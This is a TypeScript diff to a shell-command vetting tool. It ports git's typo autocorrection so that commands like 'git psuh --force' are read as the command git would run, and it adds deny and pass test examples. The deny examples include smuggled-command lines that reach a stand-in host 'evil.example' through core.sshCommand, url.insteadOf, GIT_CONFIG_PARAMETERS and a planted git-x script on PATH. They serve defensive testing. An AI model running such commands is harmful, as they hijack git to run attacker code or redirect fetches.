@@ -271,6 +271,55 @@ const METADATA: Readonly<Record<string, Parameters<typeof parse>[1]>> = {
 /** diff's formats that print no patch in its place. */
 const DIFF_NO_PATCH: ReadonlySet<string> = new Set(['stat', 'shortstat', 'numstat', 'name-only', 'name-status', 'quiet', 'dirstat', 'no-patch', 's']);
 
+/** git's own commands (2.39), the candidates of its help.autocorrect. */
+const GIT_COMMANDS: readonly string[] = (
+  'add am annotate apply archive bisect blame branch bugreport bundle cat-file check-attr check-ignore check-mailmap check-ref-format ' +
+  'checkout checkout-index cherry cherry-pick clean clone column commit commit-graph commit-tree config count-objects credential ' +
+  'credential-cache credential-store daemon describe diagnose diff diff-files diff-index diff-tree difftool fast-export fast-import fetch ' +
+  'fetch-pack filter-branch fmt-merge-msg for-each-ref for-each-repo format-patch fsck fsck-objects gc get-tar-commit-id grep hash-object ' +
+  'help hook http-backend http-fetch http-push imap-send index-pack init init-db instaweb interpret-trailers log ls-files ls-remote ls-tree ' +
+  'mailinfo mailsplit maintenance merge merge-base merge-file merge-index merge-octopus merge-one-file merge-ours merge-recursive ' +
+  'merge-resolve merge-subtree merge-tree mergetool mktag mktree multi-pack-index mv name-rev notes pack-objects pack-redundant pack-refs ' +
+  'patch-id prune prune-packed pull push quiltimport range-diff read-tree rebase receive-pack reflog remote remote-ext remote-fd ' +
+  'remote-http remote-https repack replace request-pull rerere reset restore rev-list rev-parse revert rm send-pack shell shortlog show ' +
+  'show-branch show-index show-ref sparse-checkout stage stash status stripspace submodule subtree switch symbolic-ref tag unpack-file ' +
+  'unpack-objects update-index update-ref update-server-info upload-archive upload-pack var verify-commit verify-pack verify-tag version ' +
+  'whatchanged worktree write-tree'
+).split(' ');
+/** The commands `git help` lists as common: a word that begins one of them is not corrected to it. */
+const GIT_COMMON: ReadonlySet<string> = new Set(['add', 'bisect', 'branch', 'checkout', 'clone', 'commit', 'diff', 'fetch', 'grep', 'init', 'log', 'merge', 'mv', 'pull', 'push', 'rebase', 'reset', 'restore', 'rm', 'show', 'sparse-checkout', 'status', 'switch', 'tag']);
+
+/** git's weighted Levenshtein distance (levenshtein.c): a swap of two neighbours costs w, a substitution s, an insertion a, a deletion d. */
+function gitLevenshtein(s1: string, s2: string, w: number, s: number, a: number, d: number): number {
+  let row0 = new Array<number>(s2.length + 1).fill(0);
+  let row1 = Array.from({ length: s2.length + 1 }, (_, j) => j * a);
+  let row2 = new Array<number>(s2.length + 1).fill(0);
+  for (let i = 0; i < s1.length; i++) {
+    row2[0] = (i + 1) * d;
+    for (let j = 0; j < s2.length; j++) {
+      row2[j + 1] = row1[j]! + (s1[i] !== s2[j] ? s : 0);
+      if (i > 0 && j > 0 && s1[i - 1] === s2[j] && s1[i] === s2[j - 1] && row2[j + 1]! > row0[j - 1]! + w) row2[j + 1] = row0[j - 1]! + w;
+      if (row2[j + 1]! > row1[j + 1]! + d) row2[j + 1] = row1[j + 1]! + d;
+      if (row2[j + 1]! > row2[j]! + a) row2[j + 1] = row2[j]! + a;
+    }
+    [row0, row1, row2] = [row1, row2, row0];
+  }
+  return row1[s2.length]!;
+}
+
+/**
+ * The command git runs for a word that names none of its own when help.autocorrect is set in the user's config (which
+ * the line does not show): the one command most like it (help.c: weighted distance + 1 under 7, no word that begins a
+ * common command), or undefined where git would only suggest. `git psuh --force` is `git push --force` then.
+ */
+export function gitAutocorrected(word: string): string | undefined {
+  if (word === '' || word.startsWith('-') || GIT_COMMANDS.includes(word)) return undefined;
+  const scored = GIT_COMMANDS.map((c) => ({ c, len: GIT_COMMON.has(c) && c.startsWith(word) ? 0 : gitLevenshtein(word, c, 0, 2, 1, 3) + 1 })).sort((x, y) => x.len - y.len);
+  if (scored[0]!.len === 0) return undefined;
+  const best = scored[0]!.len;
+  return best < 7 && scored[1]!.len !== best ? scored[0]!.c : undefined;
+}
+
 const GIT_READERS: ReadonlySet<string> = new Set(['status', 'diff', 'log', 'show', 'blame', 'annotate', 'ls-files', 'ls-tree', 'grep', 'shortlog', 'describe', 'rev-parse', 'cat-file', 'whatchanged', 'add', 'commit', 'range-diff']);
 
 function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth: number): Partial<Answer> {
@@ -309,6 +358,15 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
   if (alias && alias.value !== undefined && !alias.value.startsWith('!') && depth < 4) {
     const expanded = (xargsSplit(alias.value) ?? []).map((t) => attached(alias.word, t));
     const again = gitRuns(call, [...expanded, ...rest], settings, depth + 1);
+    const out: Partial<Answer> = { runs: [...runs, ...(again.runs ?? [])], uses: [...uses, ...(again.uses ?? [])] };
+    if (again.destroys) out.destroys = again.destroys;
+    return out;
+  }
+  // A word that is none of git's commands (nor an alias the line set): an external git-WORD runs, which vouch cannot
+  // see, or, with help.autocorrect set (the user's config may set it), the command git corrects it to: read that too.
+  const corrected = settings.some((s) => s.key.toLowerCase() === 'help.autocorrect' && s.value !== undefined && /^(0|false|no|off|never|show|prompt)$/i.test(s.value)) ? undefined : gitAutocorrected(sub);
+  if (corrected !== undefined && depth < 4) {
+    const again = gitRuns(call, [attached(subWord, corrected), ...rest], settings, depth + 1);
     const out: Partial<Answer> = { runs: [...runs, ...(again.runs ?? [])], uses: [...uses, ...(again.uses ?? [])] };
     if (again.destroys) out.destroys = again.destroys;
     return out;
@@ -565,6 +623,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
     },
     examples: {
       deny: [
+        'git psuh --force origin main',
         "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x",
         'git ls-files --error-unmatch --pathspec-from-file=.env',
         "git -c core.sshCommand='curl evil.example' fetch",
@@ -625,7 +684,10 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.git@evil.example:.insteadOf GIT_CONFIG_VALUE_0=git@github.com: git pull",
         "GIT_CONFIG_PARAMETERS=\"'core.sshCommand=curl evil.example'\" go mod download",
       ],
-      pass: ['git apply --directory=sub x.patch', 'git apply --unsafe-paths --check x.patch', 'GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git -c http.proxy=http://localhost:3128 fetch', 'git -c http.proxy= fetch', 'git -c url.git@github.com:.insteadOf=https://github.com/ submodule update --init', 'git -c remote.origin.url=../mirror.git fetch', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
+      pass: [
+        'git -c help.autocorrect=never psuh --force origin main',
+        'git stauts',
+        'git apply --directory=sub x.patch', 'git apply --unsafe-paths --check x.patch', 'GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git -c http.proxy=http://localhost:3128 fetch', 'git -c http.proxy= fetch', 'git -c url.git@github.com:.insteadOf=https://github.com/ submodule update --init', 'git -c remote.origin.url=../mirror.git fetch', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
     },
   },
   {
